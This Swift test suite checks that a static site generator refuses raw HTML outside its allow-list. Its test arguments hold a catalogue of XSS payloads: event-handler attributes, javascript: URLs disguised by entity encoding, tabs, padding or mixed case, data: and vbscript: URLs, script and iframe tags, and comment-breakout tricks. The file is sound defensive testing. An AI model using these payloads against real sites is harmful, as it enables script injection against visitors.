import Foundation
import LifelineTestSupport
import Testing

/// Raw HTML in a page: tokenized as a browser tokenizes it and refused outside the allow-list,
/// at its line and column, whole message, exit 1, Output/ untouched; what is allowed is published
/// as parsed.
@Suite("Raw HTML: an allow-list, read as a browser reads it")
struct RawHTMLTests {
    static let elements = "a, abbr, b, bdi, blockquote, br, caption, cite, code, col, colgroup, dd, del, details, dfn, div, dl, dt, em, "
        + "figcaption, figure, h1, h2, h3, h4, h5, h6, hr, i, img, ins, kbd, li, mark, ol, p, picture, pre, q, rp, rt, ruby, s, samp, "
        + "small, source, span, strong, sub, summary, sup, table, tbody, td, tfoot, th, thead, time, tr, u, ul, var and wbr"
    static func element(_ name: String) -> String {
        "raw HTML element <\(name)> is not allowed; raw HTML may use \(elements), and Markdown for the rest"
    }
    static let img = "align, alt, class, decoding, dir, height, id, lang, loading, sizes, src, srcset, title and width"
    static let anchor = "align, class, dir, href, id, lang and title"
    static let div = "align, class, dir, id, lang and title"
    static func attribute(_ name: String, on element: String, _ allowed: String) -> String {
        "raw HTML attribute '\(name)' on <\(element)> is not allowed; <\(element)> may have \(allowed) (no event handlers, no style)"
    }
    static func url(_ element: String, _ attribute: String, _ scheme: String) -> String {
        "raw HTML <\(element) \(attribute)> with a '\(scheme):' URL is not allowed; a URL here is http:, https:, mailto:, relative or a #fragment"
    }
    static let bogus = "(a browser reads it as a comment up to the next '>'); write '&lt;' for a '<' that is text"

    /// Each written from line 8 of Content/about.md on; the line and column are where the refusal points.
    @Test("Every attack of issue 19 and its cousins is refused at its line and column", arguments: [
        // Event handlers in any case, on any element.
        (#"<img src=x OnLoad=alert(1)>"#, 8, 12, attribute("onload", on: "img", img)),
        (#"<img src=x ONERROR=alert(1)>"#, 8, 12, attribute("onerror", on: "img", img)),
        (#"<p>text <b onmouseover="x()">b</b></p>"#, 8, 12, attribute("onmouseover", on: "b", "align, class, dir, id, lang and title")),
        // Script URLs however they are quoted, encoded or padded.
        (#"<a href='&#106;avascript:alert(1)'>x</a>"#, 8, 4, url("a", "href", "javascript")),
        (#"<a href=&#106;avascript:alert(1)>x</a>"#, 8, 4, url("a", "href", "javascript")),
        (#"<a href=&#x6A;avascript:alert(1)>x</a>"#, 8, 4, url("a", "href", "javascript")),
        (#"<a href="&#0000106avascript:alert(1)">x</a>"#, 8, 4, url("a", "href", "javascript")),
        (#"<a href="javascript&colon;alert(1)">x</a>"#, 8, 4, url("a", "href", "javascript")),
        (#"<a href=' javascript:alert(1)'>x</a>"#, 8, 4, url("a", "href", "javascript")),
        (#"<a href="java&#x09;script:alert(1)">x</a>"#, 8, 4, url("a", "href", "javascript")),
        (#"<a href="java&Tab;script:alert(1)">x</a>"#, 8, 4, url("a", "href", "javascript")),
        (#"<a href="&#x01;javascript:alert(1)">x</a>"#, 8, 4, url("a", "href", "javascript")),
        (#"<a HREF="JaVaScRiPt:alert(1)">x</a>"#, 8, 4, url("a", "href", "javascript")),
        (#"<a href="data:text/html,<script>alert(1)</script>">x</a>"#, 8, 4, url("a", "href", "data")),
        (#"<a href="vbscript:msgbox(1)">x</a>"#, 8, 4, url("a", "href", "vbscript")),
        (#"<img src="a.png" srcset="b.png 2x, javascript:alert(1) 3x">"#, 8, 18, url("img", "srcset", "javascript")),
        (#"<img src="file:///etc/passwd">"#, 8, 6, url("img", "src", "file")),
        // Elements that change where the page goes or what it runs.
        (#"<base href="https://evil.example/">"#, 8, 1, element("base")),
        (#"<form action="https://evil.example/"><button>Go</button></form>"#, 8, 1, element("form")),
        (#"<meta http-equiv=refresh content="0;url=https://evil.example/">"#, 8, 1, element("meta")),
        (#"<svg onload=alert(1)>"#, 8, 1, element("svg")),
        (#"<iframe src="https://evil.example/"></iframe>"#, 8, 1, element("iframe")),
        (#"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#, 8, 1, element("iframe")),
        (#"<object data="x.swf"></object>"#, 8, 1, element("object")),
        (#"<embed src="x.swf">"#, 8, 1, element("embed")),
        (#"<style>body { background: url(javascript:alert(1)) }</style>"#, 8, 1, element("style")),
        (#"<ScRiPt>alert(1)</ScRiPt>"#, 8, 1, element("script")),
        (#"<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"#, 8, 1, element("script")),
        (#"<button formaction="javascript:alert(1)">x</button>"#, 8, 1, element("button")),
        (#"<math><mi xlink:href="javascript:alert(1)">x</mi></math>"#, 8, 1, element("math")),
        (#"<link rel=stylesheet href=https://evil.example/x.css>"#, 8, 1, element("link")),
        // Attributes outside the list.
        (#"<div style="background:url(javascript:alert(1))">x</div>"#, 8, 6, attribute("style", on: "div", div)),
        (#"<div style="width: expression(alert(1))">x</div>"#, 8, 6, attribute("style", on: "div", div)),
        (#"<a xlink:href="javascript:alert(1)">x</a>"#, 8, 4, attribute("xlink:href", on: "a", anchor)),
        (#"<a href="https://example.org/" target="_blank">x</a>"#, 8, 32, attribute("target", on: "a", anchor)),
        // Markup that hides or swallows: a comment ended early, CDATA, a tag left open.
        (#"<!-- x --!><img src=x onerror=alert(1)> -->"#, 8, 23, attribute("onerror", on: "img", img)),
        (#"<!--><img src=x onerror=alert(1)>-->"#, 8, 17, attribute("onerror", on: "img", img)),
        (#"<![CDATA[ ><img src=x onerror=alert(1)> ]]>"#, 8, 1, "raw HTML may hold elements and <!-- comments -->, not '<![CDATA[ >' " + bogus),
        (#"<!DOCTYPE html>"#, 8, 1, "raw HTML may hold elements and <!-- comments -->, not '<!DOCTYPE ht…' " + bogus),
        (#"<?php echo 1 ?>"#, 8, 1, "raw HTML may hold elements and <!-- comments -->, not '<?php echo 1…' " + bogus),
        ("<div title=\"\n\nNothing", 8, 1, "raw HTML ends inside the tag <div>; close it with '>' (a browser would read the rest of the page into it)"),
        ("<div>\n<!-- never closed\n\nNothing", 9, 1, "raw HTML ends inside a comment; close it with '-->' (a browser would hide the rest of the page in it)"),
        ("<div>\nfine\n<img src=x\nonerror=alert(1)>\n</div>", 11, 1, attribute("onerror", on: "img", img)),
    ] as [(String, Int, Int, String)])
    func refused(html: String, line: Int, column: Int, message: String) async throws {
        let site = try HostileSite(pagesOnly: true)
        defer { site.remove() }
        try site.site.edit("Content/about.md", replacing: "Nothing but", with: html + "\n\nNothing but")
        try await HostileInputTests.expectRefused(site, [], "Content/about.md:\(line):\(column): error: " + message)
    }

    @Test("A tag a browser would read but CommonMark does not (no space between attributes) stays text", arguments: [
        (#"<img src="x"onerror=alert(1)>"#, #"&lt;img src=&quot;x&quot;onerror=alert(1)&gt;"#),
        (#"<img/src="x"/onerror=alert(1)>"#, #"&lt;img/src=&quot;x&quot;/onerror=alert(1)&gt;"#),
    ])
    func text(markdown: String, published: String) async throws {
        let site = try HostileSite(pagesOnly: true)
        defer { site.remove() }
        try site.site.edit("Content/about.md", replacing: "Nothing but", with: "A " + markdown + "\n\nNothing but")
        #expect(try await site.build().result == HostileSite.Result(status: 0, error: ""))
        #expect(try site.site.read("Output/about.html").contains("<p>A " + published + "</p>"))
    }

    @Test("A raw link in single quotes or none is written double-quoted, so the link check reads it", arguments: [
        "<a href='missing.html'>x</a>", "<a href=missing.html>x</a>", "<A HREF = \"missing.html\">x</A>",
    ])
    func linkChecked(html: String) async throws {
        let site = try HostileSite(pagesOnly: true)
        defer { site.remove() }
        try site.site.edit("Content/about.md", replacing: "Nothing but", with: html + "\n\nNothing but")
        try await HostileInputTests.expectRefused(site, [], "Content/about.md:1:1: error: broken link: 'missing.html' names a file the site does not have")
    }

    @Test("What the allow-list allows is published as parsed: names lowercased, values double-quoted and escaped")
    func allowed() async throws {
        let site = try HostileSite(pagesOnly: true)
        defer { site.remove() }
        let html = """
            <details OPEN><summary>More</summary>Press <kbd>⌘</kbd>+<KBD>K</KBD>, H<sub>2</sub>O, x<sup>2</sup></details>

            <p>A <a HREF='https://example.org/?a=1&amp;b=2&copy=3' Title=Example>link</a>, a <a href="mailto:me@example.org">mail</a>, a <a href=#about>fragment</a>, <abbr title='"quoted"'>Q</abbr>, <mark>marked</mark>, <small>small</small>, <q>q</q>, <ins>in</ins>, <del>out</del><br/></p>

            <!-- a note for writers -->
            <figure><picture><source srcset="https://example.org/wide.png 2x, https://example.org/narrow.png 1x" media="(min-width: 40em)"><img src="https://example.org/narrow.png" alt="A picture" width="10" height="20"></picture><figcaption>Caption</figcaption></figure>

            <table><thead><tr><th colspan=2 align=left>Head</th></tr></thead><tbody><tr><td rowspan="1">a</td><td>b</td></tr></tbody></table>

            <dl><dt>Term</dt><dd>Definition</dd></dl>
            """
        try site.site.edit("Content/about.md", replacing: "Nothing but", with: html + "\n\nNothing but")
        let (result, _) = try await site.build()
        #expect(result == HostileSite.Result(status: 0, error: ""))
        let page = try site.site.read("Output/about.html")
        for expected in [
            #"<details open><summary>More</summary>Press <kbd>⌘</kbd>+<kbd>K</kbd>, H<sub>2</sub>O, x<sup>2</sup></details>"#,
            #"<a href="https://example.org/?a=1&amp;b=2&amp;copy=3" title="Example">link</a>"#,
            #"<a href="mailto:me@example.org">mail</a>"#, ##"<a href="#about">fragment</a>"##,
            #"<abbr title="&quot;quoted&quot;">Q</abbr>"#, "<del>out</del><br /></p>",
            "<!-- a note for writers -->",
            #"<figure><picture><source srcset="https://example.org/wide.png 2x, https://example.org/narrow.png 1x" media="(min-width: 40em)"><img src="https://example.org/narrow.png" alt="A picture" width="10" height="20"></picture><figcaption>Caption</figcaption></figure>"#,
            #"<th colspan="2" align="left">Head</th>"#, #"<td rowspan="1">a</td>"#,
            "<dl><dt>Term</dt><dd>Definition</dd></dl>",
        ] {
            #expect(page.contains(expected), "\(expected)")
        }
    }
}
